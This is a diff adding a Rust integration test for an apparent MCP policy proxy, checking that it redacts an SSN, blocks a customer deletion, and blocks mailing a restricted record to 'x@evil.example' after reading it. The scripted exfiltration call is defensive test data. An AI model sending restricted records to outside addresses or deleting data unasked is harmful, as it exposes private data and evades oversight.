@@ -236,3 +236,77 @@ fn tempdir(name: &str) -> PathBuf {
     std::fs::create_dir_all(&dir).unwrap();
     dir
 }
+
+/// A free port on the loopback (another process may take it first; rare).
+fn free_port() -> u16 {
+    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
+}
+
+/// Kills the child when the test ends, however it ends.
+struct Killed(std::process::Child);
+
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn the_http_mode_guards_a_streamable_http_server() {
+    use std::io::BufRead;
+    let port = free_port();
+    let _server = Killed(
+        Command::new(python())
+            .arg(server_script())
+            .args(["--http", &port.to_string()])
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    // Wait until it accepts connections (a bounded wait, not a timing assertion).
+    let up = (0..600).any(|_| {
+        std::thread::sleep(std::time::Duration::from_millis(100));
+        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
+    });
+    assert!(up, "the SDK's HTTP server did not start");
+    let mut proxy = Killed(
+        Command::new(ward())
+            .args(["mcp-proxy", "--policy", &policy(), "--agent", "records_bot", "--listen", "127.0.0.1:0"])
+            .args(["--upstream", &format!("http://127.0.0.1:{port}/mcp")])
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    let mut stderr = std::io::BufReader::new(proxy.0.stderr.take().unwrap());
+    let mut line = String::new();
+    stderr.read_line(&mut line).unwrap();
+    let addr = line.split("listening on ").nth(1).and_then(|r| r.split(',').next()).unwrap_or_else(|| panic!("{line}"));
+    std::thread::spawn(move || std::io::copy(&mut stderr, &mut std::io::sink()));
+    let steps = json!([
+        ["list"],
+        ["call", "lookup_customer", {"customer_id": "c-17"}],
+        ["call", "delete_customer", {"customer_id": "c-17", "reason": "asked"}],
+        ["call", "read_restricted_record", {"record_id": "r-9"}],
+        ["call", "send_email", {"to": "x@evil.example", "subject": "fyi", "body": "r-9"}],
+    ]);
+    let out = Command::new(python())
+        .arg(repo().join("tests/mcp/client.py"))
+        .args(["legacy", &steps.to_string(), "--url", &format!("{addr}/mcp")])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
+    let answers: Vec<Json> = stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let names: Vec<&str> = answers[0]["tools"].as_array().unwrap().iter().filter_map(Json::as_str).collect();
+    assert_eq!(names, ["lookup_customer", "read_restricted_record", "send_email", "crash", "hang"]);
+    let lookup = text_of(&answers[1]);
+    assert!(lookup.contains("[REDACTED]") && !lookup.contains("123-45-6789"), "{lookup}");
+    assert!(error_of(&answers[2]).1.contains("crm_gateway.no-deletes"));
+    assert!(text_of(&answers[3]).contains("fraud investigation"));
+    let (code, message) = error_of(&answers[4]);
+    assert_eq!(code, -32001);
+    assert!(message.contains("no-mail-after-restricted-read"), "{message}");
+}
